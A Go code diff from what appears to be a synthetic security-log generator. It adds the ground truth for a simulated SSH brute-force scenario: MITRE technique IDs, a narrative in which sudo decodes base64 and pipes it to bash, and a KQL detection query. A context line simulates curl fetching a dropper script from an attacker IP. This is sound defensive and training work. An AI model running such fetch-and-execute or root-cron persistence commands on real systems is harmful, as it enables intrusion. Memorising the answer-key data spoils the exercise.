@@ -48,6 +48,13 @@ func (w *world) buildSSHBruteForce(sd *storyData) {
 	sd.flows = append(sd.flows, flowEvent{t: sudoAt.Add(time.Second), src: bastion, srcIP: bastion.IP, srcPort: 41822, dstIP: dropperIP, dstPort: 80,
 		proc: &proc{img: w.img("/usr/bin/curl"), cmd: fmt.Sprintf("curl -s http://%s/x.sh -o /tmp/.x.sh", dropperIP), pid: 48251, start: sudoAt, id: w.rootID(bastion)},
 		user: w.rootID(bastion), sent: 180, recv: 6_412, app: "web-browsing", fw: o.Firewall[0], natIP: bastion.Public, dur: 600 * time.Millisecond, story: storySSH})
+	sd.truth = append(sd.truth, truth{story: storySSH, title: "SSH brute force on the bastion, sudo and a base64-encoded dropper",
+		technique: "T1110.001, T1078.003, T1548.003, T1027, T1059.004, T1053.003, T1105", tactics: "CredentialAccess, InitialAccess, PrivilegeEscalation, DefenseEvasion, Execution, Persistence",
+		description: fmt.Sprintf("%s guesses passwords for admin, root, oracle, ubuntu and deploy on bastion01 (SSH exposed as %s:22) until deploy's password works; deploy runs sudo /bin/bash -c 'echo <base64> | base64 -d | bash', which downloads /tmp/.x.sh from %s and installs a root cron job that runs it every 15 minutes. No alert fires.", bruteIP, bastion.Public, dropperIP),
+		users:       []string{"deploy"}, accounts: []string{"deploy", "root"}, hosts: []string{bastion.Name}, ips: []string{bruteIP.String(), dropperIP.String()},
+		files: []string{"/tmp/.x.sh"}, urls: []string{"http://" + dropperIP.String() + "/x.sh"}, start: start, end: w.cfg.End,
+		tables: []string{"Syslog", "CommonSecurityLog", "VMConnection", "ThreatIntelligenceIndicator"},
+		query:  `Syslog | where ProcessName == "sudo" and SyslogMessage has "base64 -d" | project TimeGenerated, Computer, SyslogMessage`})
 	// cron runs the dropper every 15 minutes from then on; it calls home.
 	first := sudoAt.Truncate(15 * time.Minute).Add(15 * time.Minute)
 	for at := first; at.Before(w.cfg.End); at = at.Add(15 * time.Minute) {
